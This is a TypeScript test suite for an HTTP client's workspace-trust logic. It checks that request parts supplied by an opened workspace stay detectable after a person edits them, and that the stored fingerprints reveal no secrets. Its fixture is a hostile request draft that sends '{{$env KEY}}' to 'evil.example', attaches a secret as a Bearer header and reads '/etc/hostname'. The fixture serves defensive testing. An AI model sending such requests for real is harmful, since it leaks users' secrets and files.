import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import * as fc from 'fast-check';
import { emptyDraft } from '../../../../src/host/request/draft.ts';
import { WorkspaceParts } from '../../../../src/host/trust/workspace-parts.ts';
import type { RequestDraft } from '../../../../src/shared/boundary/page.ts';
import { withoutSecrets } from '../../../../src/shared/request/secrets.ts';
import { hostileDrafts } from '../../../support/hostile-drafts.ts';

class State {
  readonly values = new Map<string, unknown>();

  get(key: string): unknown {
    return structuredClone(this.values.get(key));
  }

  async update(key: string, value: unknown): Promise<void> {
    this.values.set(key, structuredClone(value));
  }
}

const draft: RequestDraft = {
  url: 'http://evil.example:80/take?all={{$env KEY}}',
  method: 'POST',
  parameters: [{ enabled: false, name: 'off', value: 'also' }],
  headers: [
    { enabled: true, name: 'Authorization', value: 'Bearer {{secret:A}}' },
    { enabled: false, name: 'X-Off', value: 'off' },
  ],
  body: 'all of it',
  form: [{ enabled: true, name: 'a', value: 'b' }],
  bodyFile: '/etc/hostname',
  auth: { kind: 'basic', user: 'u', password: 'p' },
  lastEventId: '7',
  options: { proxy: 'http://p:1', followRedirects: false },
};

/** Of a request of a person, in a window whose workspace brought that draft along. */
function left(change: Partial<RequestDraft>, brought = draft): readonly string[] {
  const state = new State();
  new WorkspaceParts(state, 'salt').remember(brought);
  return new WorkspaceParts(state, 'salt').among({ ...emptyDraft, url: 'http://mine.example/', ...change });
}

describe('what is left of a workspace’s request', () => {
  it('is known by each of its parts, wherever it stands now', () => {
    for (const [change, names] of [
      [{ url: 'https://EVIL.example:8443/other' }, ['the host']],
      [{ url: 'http://mine.example/take' }, ['the path']],
      [{ url: 'http://mine.example/x?all=y{{\t$env KEY}}' }, ['the variable {{$env KEY}}']],
      [{ url: 'http://mine.example/?off=also' }, ['the query']],
      [{ headers: [{ enabled: true, name: 'x-off', value: 'off ' }] }, ['the header “x-off”']],
      [{ headers: [{ enabled: true, name: 'X', value: 'mine {{secret : A}}' }] }, ['the variable {{secret:A}}']],
      [{ body: ' all of it\n' }, ['the body']],
      [{ form: [{ enabled: false, name: 'a', value: 'b' }] }, ['the form']],
      [{ bodyFile: '/etc/hostname' }, ['the body file']],
      [{ auth: { kind: 'basic', user: 'u', password: 'mine' } }, ['the authorization']],
      [{ lastEventId: '7' }, ['the last event ID']],
      [{ options: { proxy: 'http://p:1' } }, ['the options']],
    ] satisfies [Partial<RequestDraft>, string[]][]) {
      assert.deepEqual(left(change), names, JSON.stringify(change));
    }
  });

  it('is nothing once the person has replaced all of it', () => {
    const mine: Partial<RequestDraft> = {
      url: 'http://mine.example/a?b={{$env MINE}}',
      method: 'POST',
      headers: [{ enabled: true, name: 'Authorization', value: '{{secret:MINE}}' }],
      body: 'mine',
      auth: { kind: 'basic', user: 'me', password: 'mine' },
      options: { proxy: 'http://mine:1', followRedirects: false },
    };
    assert.deepEqual(left(mine), []);
    assert.deepEqual(left({}), []);
  });

  it('is known of code that names a path only, and of a URL that is none', () => {
    assert.deepEqual(left({ url: 'http://mine.example/events' }, { ...emptyDraft, url: '/events?a=b' }), ['the path']);
    assert.deepEqual(left({ url: 'http://evil:80/' }, { ...emptyDraft, url: 'http://evil:PORT/' }), ['the host']);
  });

  it('is known with and without its secrets, of any draft', () => {
    const prey = {
      origin: 'http://h:1',
      env: 'E',
      dotenv: 'D',
      secret: 'S',
      named: 'n',
      files: ['/f'],
      proxy: 'p',
      socketPath: '/s',
    };
    fc.assert(
      fc.property(hostileDrafts(prey), (draft) => {
        const state = new State();
        new WorkspaceParts(state, 'salt').remember(draft);
        const parts = new WorkspaceParts(state, 'salt');
        for (const kept of [draft, withoutSecrets(draft), JSON.parse(JSON.stringify(draft)) as RequestDraft]) {
          assert.notDeepEqual(parts.among(kept), []);
        }
        // Nobody can read from what is kept what was there.
        assert.doesNotMatch(JSON.stringify([...state.values]), /plain|secret|\$env|127\.0/);
      }),
      { numRuns: 300 },
    );
  });

  it('is everything once there was more than is kept, so that nothing can be pushed out', () => {
    const state = new State();
    const parts = new WorkspaceParts(state, 'salt');
    parts.remember(draft);
    const headers = Array.from({ length: 20_001 }, (_, n) => ({ enabled: true, name: 'X', value: `${n}` }));
    parts.remember({ ...emptyDraft, url: 'http://h/', headers });
    assert.deepEqual(parts.among({ ...emptyDraft, url: 'http://any.example/' }), ['the host']);
    assert.deepEqual(new WorkspaceParts(new State(), 'salt').among(draft), []);
  });

  it('is everything where a later version kept it', async () => {
    const state = new State();
    await state.update('workspaceParts', { version: 99, parts: {} });
    assert.deepEqual(new WorkspaceParts(state, 'salt').among({ ...emptyDraft, url: 'http://any.example/' }), [
      'the host',
    ]);
  });
});
